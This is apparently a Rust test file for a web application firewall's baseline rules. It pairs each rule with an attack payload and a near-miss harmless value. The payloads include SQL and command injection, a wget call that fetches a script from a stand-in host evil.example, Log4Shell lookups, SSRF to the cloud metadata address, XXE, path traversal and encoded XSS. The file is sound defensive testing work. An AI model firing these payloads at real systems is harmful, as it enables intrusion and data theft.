//! For each rule of the baseline an attack that it matches, and the nearest ordinary value that passes.

use std::{collections::BTreeSet, sync::Arc};

use bartizan_inspect::{EngineMode, RuleSet, Verdict};

use crate::{
    ftw::{self, Request},
    place,
};

fn set(mode: EngineMode) -> Arc<RuleSet> {
    Arc::new(bartizan_inspect::baseline().unwrap().with_settings(|settings| settings.mode = mode))
}

fn said(verdict: &Verdict) -> String {
    let matches: Vec<String> =
        verdict.matches.iter().map(|found| format!("{} {}", found.rule, found.variable)).collect();
    format!("{matches:?} {:?}", verdict.incomplete)
}

/// The rule, an attack value, the nearest ordinary value; both stand in a query, a form, a JSON and a multipart body.
const VALUES: &[(u32, &str, &str)] = &[
    (8_101_040, "page\0.png", "page.png"),
    (8_101_060, "x\r\nSet-Cookie: admin=1", "Dear team,\r\nLocation: Berlin"),
    (8_101_065, "x Set-Cookie:admin=1", "we set cookies: see below"),
    (8_101_070, "a\r\nRCPT TO: <a@b.example>\r\n", "Hello,\r\nplease mail from your desk."),
    (8_102_020, "http://x1.oast.fun/a", "http://roast.fun/a"),
    (8_110_010, "1 UNION SELECT name, pass FROM users", "the trade union select committee met today"),
    (8_110_010, "1/**/union/*!50000select*/1,2", "union was a great select"),
    (8_110_020, "1 or 1=1", "one or the other = fine"),
    (8_110_020, "x' and '1'='1", "he said 'and' twice"),
    (8_110_030, "admin' or username like 'a%", "O'Brien or O'Neill like tea"),
    (8_110_040, "admin'--", "the 'admin' user -- see the manual for more about it"),
    (8_110_050, "extractvalue(1,concat(0x7e,version()))", "extract the value (1) from the table"),
    (8_110_060, "1 and sleep(5)", "sleep (5 hours) and rest"),
    (8_110_070, "1; drop table users", "please drop the table; users are waiting"),
    (8_110_080, "1 and (select count(*) from users)>0", "count and (select one of the list)"),
    (8_110_090, "1' order by 3--", "order by 3 pm"),
    (8_110_100, "1 /*!or*/ 2", "a /* or */ b"),
    (8_110_110, "1' || lower('a') = 'a", "it's 5 || lower"),
    (8_111_030, "{\"$where\": \"sleep(1)\"}", "where: $5 or less"),
    (8_112_010, "*)(uid=*))(|(uid=*", "(see note *) (uid below)"),
    (8_112_020, "' or count(/user)=1 or '", "or count (for users) one"),
    (8_120_010, ";wget http://evil.example/x.sh", "wget is a program; curl and divergence are not"),
    (8_120_020, "; cat /etc/motd", "The dog; cat and mouse"),
    (8_120_030, "127.0.0.1;id", "name;id;total"),
    (8_120_040, "a$(id)b", "costs $(5) more"),
    (8_120_050, "cat${IFS}x", "cat {IFS} x"),
    (8_120_060, "cmd.exe /c dir", "cmd exe c dir"),
    (8_120_070, "() { :;}; echo x", "f() { return 1 }"),
    (8_120_080, "c'a't /etc/x|y", "cat's /etc guide"),
    (8_121_010, "<?php phpinfo(); ?>", "php info is shown by phpinfo"),
    (8_121_020, "new java.lang.ProcessBuilder('x')", "java lang courses"),
    (8_121_030, "__import__('os').system('id')", "def __init__(self): import os"),
    (8_121_040, "require('child_process').exec('id')", "require('express')"),
    (8_121_050, "<!--#exec cmd=\"ls\" -->", "issue #5 -- exec summary"),
    (8_122_010, "{{7*7}}", "{{ customer.name }}"),
    (8_122_010, "${T(java.lang.Runtime)}", "${price}"),
    (8_123_010, "${jndi:ldap://evil.example/a}", "${env} and jndi"),
    (8_123_010, "${${lower:j}ndi:dns://x}", "${lower}"),
    (8_124_010, "rO0ABXNyABFqYXZhLnV0aWw", "rO0mABout"),
    (8_124_020, "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}", "O:8: eight o'clock"),
    (8_124_030, "AAEAAAD/////AQAAAAAAAAAMAgAAA", "AAEAAAB1"),
    (8_124_040, "cos\nsystem\n(S'id'\ntR.", "because of\nsystem\nerrors"),
    (8_130_010, "../../secret.txt", "./secret.txt"),
    (8_130_010, "%252e%252e%252f%252e%252e%252fx", "a..b"),
    (8_130_020, "/etc/passwd", "/etc of the house"),
    (8_130_030, "file:///srv/data", "profile://x and a file: see below"),
    (8_130_040, "..%c0%9v..%c0%9vboot.ini", "boot in i"),
    (8_131_010, "http://169.254.169.254/latest/", "http://169.254.example.com/latest/"),
    (8_131_020, "http://127.0.0.1:8080/admin", "http://127.example.com:8080/admin"),
    (8_131_030, "http://10.0.0.5/", "my router is at http://192.168.1.1/ and blinks"),
    (8_132_010, "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///c'>]>", "the document type (html) and its entities"),
    (8_140_010, "<script>x</script>", "a script < b"),
    (8_140_020, "<b onmouseover=x>", "a < b on mouse over = c"),
    (8_140_030, "javascript:alert(1)", "JavaScript: Basics of the language"),
    (8_140_040, "<iframe src=//evil.example>", "an <i>frame</i>"),
    (8_140_050, "';alert(1)//", "an alert (see page 1)"),
    (8_140_060, "<x style=\"a:b\" onfoo=\"c\">", "<b>bold</b>"),
    (8_150_020, "{\"__proto__\": {\"admin\": true}}", "{\"proto\": {\"admin\": true}}"),
];

/// Requests of a form of their own: the rule, an attack, the nearest ordinary request.
fn requests() -> Vec<(u32, Request, Request)> {
    let get = |target: &str| place::request("GET", target, "", b"");
    let json = |body: &str| place::request("POST", "/api", "application/json", body.as_bytes());
    let typed = |kind: &str| place::request("POST", "/api", kind, b"x");
    let file = |name: &str| {
        let body = format!(
            "--b7Q\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\n\r\nx\r\n--b7Q--\r\n"
        );
        place::request("POST", "/upload", "multipart/form-data; boundary=b7Q", body.as_bytes())
    };
    let loose = |mark: &str| {
        let body = format!("--b7Q\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx\r\n--b7Q--{mark}");
        place::request("POST", "/upload", "multipart/form-data; boundary=b7Q", body.as_bytes())
    };
    let nested = |depth: usize| {
        let query = format!("query {}id{}", "{ a ".repeat(depth), "}".repeat(depth));
        json(&serde_json::json!({ "query": query }).to_string())
    };
    let aliases = |count: usize| {
        let fields: Vec<String> = (0..count).map(|at| format!("a{at}: login(pin: {at}) {{ ok }}")).collect();
        json(&serde_json::json!({ "query": format!("query {{ {} }}", fields.join(" ")) }).to_string())
    };
    vec![
        (8_101_010, place::request("TRACE", "/", "", b""), place::request("OPTIONS", "/", "", b"")),
        (8_101_020, typed("application/json; charset=utf-7"), json("{}")),
        (
            8_101_030,
            place::header("Range", "bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13"),
            place::header("Range", "bytes=0-499,600-"),
        ),
        (8_101_050, loose("\r\nx"), loose("\r\n")),
        (8_101_080, file("a.php"), file("a.php-manual.pdf")),
        (8_102_010, place::header("User-Agent", "sqlmap/1.7"), place::header("User-Agent", "curl/8.5.0")),
        (8_102_030, get("/.git/config"), get("/.well-known/openid-configuration")),
        (8_111_010, get("/login?user[$ne]=x&password[$ne]=y"), get("/items?filter[price][$gte]=10")),
        (8_111_010, json(r#"{"password":{"$gt":""}}"#), json(r#"{"where":{"price":{"$gt":5}}}"#)),
        (8_111_020, json(r#"{"filter":{"$where":"1"}}"#), json(r#"{"filter":{"where":"1"}}"#)),
        (
            8_124_050,
            json(r#"{"a":{"@type":"com.sun.rowset.JdbcRowSetImpl"}}"#),
            json(r#"{"@type":"Person","name":"Jane"}"#),
        ),
        (
            8_131_020,
            get("/fetch?url=http://localhost:22/"),
            get("/authorize?redirect_uri=http://localhost:3000/callback"),
        ),
        (
            8_132_020,
            place::xml("<a b=\"http://evil.example/x.dtd\"/>"),
            place::xml("<a b=\"http://www.example.com/ns\"/>"),
        ),
        (8_150_010, json(r#"{"__proto__":{"admin":true}}"#), json(r#"{"proto":{"admin":true}}"#)),
        (8_150_010, get("/?constructor[prototype][x]=1"), get("/?constructor=Ford")),
        (8_151_010, nested(16), nested(12)),
        (8_151_020, aliases(50), aliases(9)),
        (
            8_123_010,
            place::header("User-Agent", "${jndi:ldap://x/a}"),
            place::header("User-Agent", "app/1.0 ($Rev)"),
        ),
    ]
}

#[test]
fn every_rule_matches_its_attack_and_lets_the_nearest_ordinary_request_pass() {
    let (detecting, enforcing) = (set(EngineMode::Detect), set(EngineMode::Enforce));
    let mut wrong = Vec::new();
    let mut seen = BTreeSet::new();
    let mut cases: Vec<(u32, Vec<Request>, Vec<Request>)> =
        requests().into_iter().map(|(rule, attack, ordinary)| (rule, vec![attack], vec![ordinary])).collect();
    for (rule, attack, ordinary) in VALUES {
        let placed = |value: &str| {
            vec![place::query(value), place::form(value), place::json(value), place::multipart(value)]
        };
        cases.push((*rule, placed(attack), placed(ordinary)));
    }
    for (rule, attacks, ordinary) in cases {
        seen.insert(rule);
        for attack in attacks {
            let verdict = ftw::run(&detecting, None, &attack);
            if !verdict.matches.iter().any(|found| found.rule == rule) {
                wrong.push(format!("{rule} misses {}: {}", shown(&attack), said(&verdict)));
            }
        }
        for request in ordinary {
            let verdict = ftw::run(&enforcing, None, &request);
            if verdict.refusal.is_some() || !verdict.incomplete.is_empty() {
                wrong.push(format!("refused ({rule}): {}: {}", shown(&request), said(&verdict)));
            }
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
    let untested: Vec<u32> =
        enforcing.rules().filter(|rule| rule.log && !seen.contains(&rule.id)).map(|rule| rule.id).collect();
    assert!(untested.is_empty(), "rules without a case: {untested:?}");
}

#[test]
fn every_rule_has_a_message_a_severity_and_its_tags() {
    for rule in set(EngineMode::Enforce).rules().filter(|rule| rule.log) {
        let has = |start: &str| rule.tags.iter().any(|tag| tag.starts_with(start));
        assert!((8_100_000..8_200_000).contains(&rule.id), "{}", rule.id);
        assert!(rule.message.is_some() && rule.severity.is_some(), "{}", rule.id);
        assert!(has("baseline") && has("attack/") && has("owasp-api/API"), "{}: {:?}", rule.id, rule.tags);
    }
}

#[test]
fn wrapped_attacks_are_seen_through_several_layers() {
    let set = set(EngineMode::Enforce);
    for wrapped in [
        "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
        "\\u003cscript\\u003ealert(1)",
        "&lt;script&gt;alert(1)",
        "&#x3c;script&#x3e;alert(1)",
        "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "JTNDc2NyaXB0JTNFYWxlcnQoMSk=",
        "UEhOamNtbHdkRDVoYkdWeWRDZ3hLVHd2YzJOeWFYQjBQZz09",
        "\u{ff1c}script\u{ff1e}alert(1)",
        "%uff1cscript%uff1ealert(1)",
        "{\\\"a\\\":\\\"\\\\u003cscript\\\\u003e\\\"}",
        "<scr\u{200b}ipt>alert(1)",
    ] {
        for request in
            [place::query(wrapped), place::form(wrapped), place::json(wrapped), place::multipart(wrapped)]
        {
            assert!(ftw::run(&set, None, &request).refusal.is_some(), "{}", shown(&request));
        }
    }
}

#[test]
fn an_attack_is_seen_wherever_it_stands() {
    let set = set(EngineMode::Enforce);
    let value = "1' UNION SELECT password FROM users--";
    let json = |body: serde_json::Value| {
        place::request("POST", "/api", "application/json", body.to_string().as_bytes())
    };
    let typed = |kind: &str, body: &str| place::request("POST", "/api", kind, body.as_bytes());
    for request in [
        place::query(value),
        place::path(value),
        place::form(value),
        place::multipart(value),
        place::header("X-Custom", value),
        place::header("Referer", &format!("https://example.com/?q={value}")),
        place::header("Cookie", &format!("theme={}", place::escaped(value.as_bytes()))),
        place::request("GET", &format!("/?{}=1", place::escaped(value.as_bytes())), "", b""),
        json(serde_json::json!({ value: 1 })),
        json(serde_json::json!([[{ "deep": [value] }]])),
        json(
            serde_json::json!({ "query": "query($id: ID!) { user(id: $id) { name } }", "variables": { "id": value } }),
        ),
        json(serde_json::json!({ "query": format!("{{ user(id: \"{value}\") {{ name }} }}") })),
        json(serde_json::json!({ "text": serde_json::json!({ "inner": value }).to_string() })),
        place::xml(&format!("<a><b>{value}</b></a>")),
        place::xml(&format!("<a b=\"{value}\"/>")),
        typed("text/plain", value),
        typed("application/graphql", &format!("{{ user(id: \"{value}\") {{ name }} }}")),
        typed("", value),
        typed("application/vnd.api+json", &serde_json::json!({ "a": value }).to_string()),
    ] {
        let verdict = ftw::run(&set, None, &request);
        assert!(verdict.refusal.is_some(), "{}: {}", shown(&request), said(&verdict));
    }
}

fn shown(request: &Request) -> String {
    String::from_utf8_lossy(&[&request.method[..], b" ", &request.target, b" ", &request.body].concat())
        .into_owned()
}
